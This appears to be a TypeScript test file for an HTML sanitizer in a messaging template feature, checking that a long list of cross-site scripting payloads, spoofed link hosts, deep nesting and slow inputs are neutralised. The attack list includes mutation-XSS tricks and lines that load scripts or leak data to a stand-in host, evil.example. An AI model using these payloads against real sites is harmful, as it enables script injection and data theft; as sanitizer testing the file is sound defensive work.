import fc from "fast-check";
import { createRequire } from "node:module";
import { expect, test } from "vitest";
import { plainTextOf } from "../features/platform/messages/plainText.ts";
import { growth, mostGrowth, workOf } from "../testing/growth.ts";
import { htmlLimits, htmlReader, sanitizeHtml, shownHtml } from "./sanitizeHtml.ts";

/** Known attacks, one a line; `x` is the code that would run. */
const attacks = String.raw`
<script>x</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>x</scr</script>ipt>
<script/x>x</script >
<p><form><p>x</p></form></p>
<p><x><div>x</div></x></p>
<p><x><p><x><ul><li><x><li>x
<table><x><tr><x><td><x><td>x<p><x><table><p>x
<<script>x//<</script>
<img src=x onerror=x>
<img src="https://e.example/a.png" onload=x>
<IMG """><SCRIPT>x</SCRIPT>">
<img src=javascript:x>
<img src="jav&#x09;ascript:x">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x>
<img src="https://e.example" style="background:url(javascript:x)">
<img src='https://e.example' srcset="javascript:x 1x">
<img/src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9eD4=">
<a href="javascript:x">a</a>
<a href=" &#14;  javascript:x">a</a>
<a href="java&#10;script:x">a</a>
<a href="JaVaScRiPt:x">a</a>
<a href="data:text/html,<script>x</script>">a</a>
<a href="vbscript:x">a</a>
<a href="//evil.example">a</a>
<a href="/api/Enrollments/PostActions">a</a>
<a href="\\evil.example">a</a>
<a href="https://e.example" onclick=x target=_self ping="https://evil.example">a</a>
<a href="blob:https://e.example/x">a</a>
<svg onload=x>
<svg><script>x</script></svg>
<svg><a xlink:href="javascript:x"><text y=20>a</text></a></svg>
<svg><style><img src=x onerror=x></style></svg>
<svg><foreignObject><iframe srcdoc="<script>x</script>"></iframe></foreignObject></svg>
<svg><animate onbegin=x attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=x>#x"/></svg>
<math><mi xlink:href="javascript:x">a</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>
<noscript><p title="</noscript><img src=x onerror=x>">
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/?q)}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<p style="position:fixed;inset:0;background:url(https://evil.example)">a</p>
<p style="width:expression(x)">a</p>
<p style="text-align:left;-moz-binding:url(https://evil.example)">a</p>
<p style="font-weight:b\6fld;behavior:url(x)">a</p>
<div style="color:red" class="admin" id="root" name="cookie">a</div>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="&lt;script&gt;x&lt;/script&gt;"></iframe>
<frameset onload=x></frameset>
<object data="javascript:x"></object>
<embed src="javascript:x">
<applet code=x></applet>
<form action="https://evil.example"><input name=otp><button>a</button></form>
<input autofocus onfocus=x>
<button formaction="javascript:x">a</button>
<select autofocus onfocus=x><option>a</option></select>
<textarea><img title="</textarea><img src=x onerror=x>"></textarea>
<title><img title="</title><img src=x onerror=x>"></title>
<xmp><img title="</xmp><img src=x onerror=x>"></xmp>
<template><img src=x onerror=x></template>
<video><source onerror=x></video>
<audio src=x onerror=x></audio>
<body onload=x>
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:x">
<details open ontoggle=x>a</details>
<marquee onstart=x>a</marquee>
<isindex type=image src=1 onerror=x>
<table background="javascript:x"><td background="javascript:x">a</table>
<x onclick=x>a</x>
<p/onmouseover=x>a</p>
<p title='"><img src=x onerror=x>'>a</p>
<!--><img src=x onerror=x>-->
<![CDATA[<img src=x onerror=x>]]>
<?xml version="1.0"?><?php x ?>
<a href="https://e.example/{{x}}" style="text-align:center">{{ZIP}}</a>
`
  .trim()
  .split("\n");

const allowedAttributes = new Set([
  "href",
  "src",
  "alt",
  "title",
  "width",
  "height",
  "colspan",
  "rowspan",
  "scope",
  "dir",
  "lang",
  "align",
  "style",
]);
const forbiddenTags =
  "script,style,link,meta,base,iframe,frame,frameset,object,embed,applet,form,input,button,select,textarea,svg,math,template,video,audio,noscript,title,details,marquee";

/** The part of jsdom in use; it ships no types. */
interface Element {
  innerHTML: string;
  outerHTML: string;
  attributes: Iterable<{ name: string; value: string }>;
  querySelectorAll(selector: string): Iterable<Element>;
}
const { JSDOM } = createRequire(import.meta.url)("jsdom") as {
  JSDOM: new (html: string) => { window: { document: { body: Element } } };
};
const host = new JSDOM("<!doctype html>").window.document.body;

/** Parses as a browser does, and inspects the elements instead of the text. */
function expectHarmless(html: string): void {
  host.innerHTML = html;
  expect([...host.querySelectorAll(forbiddenTags)].map(({ outerHTML }) => outerHTML)).toEqual([]);
  for (const element of host.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(allowedAttributes.has(name), `${name} in ${html}`).toBe(true);
      if (name === "href" || name === "src") expect(value).toMatch(/^(https|mailto|tel):/i);
      if (name === "style")
        expect(value).toMatch(/^(?:(?:text-align|font-weight|font-style|text-decoration):[\w\s-]+;?)*$/);
    }
  }
}

test.each(attacks)("makes %j harmless, and a second time changes nothing [form.footer]", (attack) => {
  const clean = sanitizeHtml(attack);
  expectHarmless(clean);
  expect(sanitizeHtml(clean)).toBe(clean);
});

test("makes any mixture of attacks harmless, and a second time changes nothing [form.footer]", () => {
  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom("<", ">", '"', "'", "&lt;", "&#x3c;", "<!--", "-->", "<p>", "</p>", "\0"),
    fc.string({ maxLength: 8 }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
      const clean = sanitizeHtml(pieces.join(""));
      expectHarmless(clean);
      expect(sanitizeHtml(clean)).toBe(clean);
    }),
    { numRuns: 300 },
  );
});

test("keeps what an author writes: text, tables, lists, links, pictures, alignment and merge tags [compile.elements]", () => {
  const html =
    '<h2>Dear {{CustomerName}}</h2><p style="text-align:center">Tom &amp; Jerry owe <strong>{{AccountBalance}}</strong></p>' +
    '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table><ul><li>b</li></ul>' +
    '<a href="https://example.com/?a=1&amp;b=2">c</a><a href="mailto:care@north.example">d</a><a href="tel:+12025550123">e</a>' +
    '<img alt="f" src="https://example.com/f.png" />';
  expect(sanitizeHtml(html)).toBe(html);
  expect(sanitizeHtml("plain < text & more")).toBe("plain &lt; text &amp; more");
});

test.each([
  "https://bank.example@evil.example/",
  "https://bank.example:pay@evil.example",
  "https:bank.example@evil.example",
  "https:\\\\bank.example@evil.example",
  "https://bank.example\t@evil.example",
  "https:/\t/bank.example@evil.example",
])("drops %j: it looks like another host's [compile.elements]", (address) => {
  expect(sanitizeHtml(`<a href="${address}">a</a><img src="${address}">`)).toBe("<a>a</a><img />");
  expect(sanitizeHtml('<a href="https://a.example/@ada?b=c@d#@">a</a>')).toContain('href="https://a.example/@ada');
});

/** Inputs that take longest, or that once took longer than their length justifies. */
const units = [
  '<p style="text-align:center">x</p>',
  "<p>a</p>",
  "<td>x",
  "</p>",
  "</b><b>",
  '<a href="',
  "<<<",
  "<!--",
  "&#60;",
  "<b ",
  "<br",
  " ",
];

test.each(units)("takes time in proportion to the length of %j again and again [form.footer]", async (unit) => {
  const read = (size: number) => {
    const html = unit.repeat((size * htmlLimits.characters) / 8 / unit.length);
    return () => plainTextOf(htmlReader()(html));
  };
  expect(await growth(read)).toBeLessThan(mostGrowth);
});

test.each(["<b>", "<div>", "<table>", "<x>", "<svg>", "<script></script><i>"])(
  "refuses %j nested deeper than a hundred tags without reading on, and shows nothing of it [form.footer]",
  async (unit) => {
    const deep = unit.repeat(htmlLimits.characters / unit.length);
    expect(() => htmlReader()(deep)).toThrow("template.htmlTooDeep");
    expect(sanitizeHtml(deep)).toBe("");
    const works = [];
    for (let time = 0; time < 5; time++) works.push(await workOf(() => sanitizeHtml(deep)));
    expect(Math.min(...works)).toBeLessThan(50_000);
    const most = htmlReader()("<b>".repeat(htmlLimits.depth));
    expect(most).toBe("<b>".repeat(htmlLimits.depth) + "</b>".repeat(htmlLimits.depth));
    expect(htmlReader()(most)).toBe(most);
  },
);

test("takes all the texts of one save together for what is too long [form.footer]", () => {
  const read = htmlReader();
  const half = "a".repeat(htmlLimits.characters / 2);
  expect(read(half) + read(half)).toHaveLength(htmlLimits.characters);
  expect(() => read("a")).toThrow("template.htmlTooLong");
});

test("keeps the last declaration of each property that harms nothing [form.footer]", () => {
  const looks = "color:red; TEXT-ALIGN: Left;;text-align:center;font-weight:bold;width:expression(x)";
  expect(sanitizeHtml(`<p style="${looks}">a</p>`)).toBe('<p style="text-align:center;font-weight:bold">a</p>');
});

test("as a page shows it: tags filled in as text, links apart, no style, whatever a value holds", () => {
  const values: Record<string, string> = { Name: "<b>Ann</b> {{Name}}", Zip: "a/b&c" };
  const valueOf = (name: string) => values[name] ?? "";
  expect(
    shownHtml(
      '<p style="text-align:center;font-weight:bold" onclick="x()">Dear {{Name}}, {{None}}.<script>x()</script>' +
        '<a href="https://north.example/{{Zip}}" target="_self">Map</a></p>',
      valueOf,
    ),
  ).toBe(
    '<p align="center">Dear &lt;b&gt;Ann&lt;/b&gt; {{Name}}, .' +
      '<a rel="noopener noreferrer" target="_blank" href="https://north.example/a%2Fb%26c">Map</a></p>',
  );
});
